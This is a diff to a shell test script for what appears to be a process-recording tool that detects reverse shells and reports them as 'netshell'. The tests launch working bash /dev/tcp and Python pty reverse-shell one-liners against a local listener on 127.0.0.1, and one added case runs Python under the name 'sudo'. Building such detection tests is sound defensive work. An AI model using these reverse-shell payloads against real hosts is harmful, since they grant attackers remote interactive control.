@@ -147,15 +147,22 @@ port=$(cat "$SCRATCH/reverse.port")
 bash -c "bash --norc --noprofile -i >& /dev/tcp/127.0.0.1/$port 0>&1" 2> /dev/null < /dev/null
 wait "$listener"
 # A relayed reverse shell: python holds the connection, the shell a pty.
-listen_once relayed
-listener=$!
-python3 -c 'import os, pty, socket, sys
+relay_shell='import os, pty, socket, sys
 s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
 for fd in (0, 1, 2):
     os.dup2(s.fileno(), fd)
-pty.spawn(["/bin/sh", "-i"])' "$(cat "$SCRATCH/relayed.port")" > /dev/null 2>&1 < /dev/null &
+pty.spawn(["/bin/sh", "-i"])'
+listen_once relayed
+listener=$!
+python3 -c "$relay_shell" "$(cat "$SCRATCH/relayed.port")" > /dev/null 2>&1 < /dev/null &
 relay=$!
 wait "$listener" "$relay"
+# The same from a program named sudo: as sudo's LDAP lookup before its shell, not a relay.
+ln -s "$(python3 -c 'import sys; print(sys.executable)')" "$SCRATCH/sudo"
+listen_once lookup
+listener=$!
+"$SCRATCH/sudo" -c "$relay_shell" "$(cat "$SCRATCH/lookup.port")" > /dev/null 2>&1 < /dev/null &
+wait "$listener" $!
 echo casefile-streams | cat > "$SCRATCH/streams.out"
 printf casefile-pipe | cat | tr '[:lower:]' '[:upper:]' > "$SCRATCH/pipes.out"
 stop_record
@@ -165,6 +172,9 @@ check_eq "record: a reverse shell's streams are its TCP connection, to the liste
 check_eq "report: the relayed shell, on a pty, through the python that connected" \
 	"netshell|sh/|127.0.0.1:$(cat "$SCRATCH/relayed.port")|through python3/$relay" \
 	"$(cd "$SCRATCH" && "$report" summary --format csv "$db" | sqlite3 -batch :memory: ".import --csv /dev/stdin r" "SELECT kind, rtrim(subject, '0123456789'), target, substr(detail, 1, instr(detail, ';') - 1) FROM r WHERE kind = 'netshell' AND detail LIKE 'through%'")"
+check_eq "report: ... not the shell of a program that authenticates (sudo), which connected too" \
+	"1|0" \
+	"$(sql "$db" "SELECT count(*) FROM ev_connect e JOIN task k ON k.id = e.task WHERE k.comm = 'sudo'")|$(cd "$SCRATCH" && "$report" summary --format csv "$db" | grep -c 'through sudo/')"
 check_eq "record: a pipeline's cat reads a pipe, writes a file" "pipe|file|" \
 	"$(sql "$db" "SELECT stdin, stdout, tcp_lport FROM process WHERE how = 'exec' AND args = 'cat' AND ppid = $$ LIMIT 1")"
 check_eq "record: a pipeline's pipe is one inode at both ends (cat writes what tr reads)" "1|1|1" \
